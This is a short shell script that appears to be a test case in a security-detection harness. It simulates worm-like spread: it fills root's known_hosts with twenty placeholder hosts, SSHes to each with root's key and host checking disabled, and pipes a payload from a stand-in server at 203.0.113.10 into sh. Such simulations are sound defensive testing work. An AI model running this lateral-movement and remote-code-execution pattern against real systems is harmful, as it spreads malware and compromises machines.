#!/bin/sh
. /opt/case/case.sh

for i in $(seq 1 20); do echo "198.51.100.$i ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIbait"; done >/root/.ssh/known_hosts
for host in $(cut -d' ' -f1 /root/.ssh/known_hosts); do
    ssh -i /root/.ssh/id_rsa -o BatchMode=yes -o StrictHostKeyChecking=no -o ConnectTimeout=1 root@$host 'curl -s http://203.0.113.10/payload.sh | sh' 2>/dev/null &
done
wait
took_place
